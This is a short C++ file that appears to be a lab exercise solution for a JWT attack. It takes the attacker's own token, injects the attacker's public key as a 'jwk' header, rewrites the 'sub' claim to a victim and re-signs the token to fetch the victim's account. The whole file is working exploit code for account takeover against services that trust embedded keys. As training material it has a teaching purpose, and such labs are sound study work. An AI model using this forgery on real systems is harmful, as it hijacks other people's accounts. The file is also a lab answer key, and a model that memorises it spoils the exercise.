// Solution lab 7b · A token with its own key
#include "jwk_header.hpp"

namespace lesson {

Loot attack(const Evidence& evidence) {
  auto token = evidence.own_token;
  token.header.set("jwk", evidence.own_key.public_jwk());
  token.claims.set("sub", evidence.victim);
  return {.account = evidence.show_me(sign_rs256(token, evidence.own_key)).body};
}

}  // namespace lesson
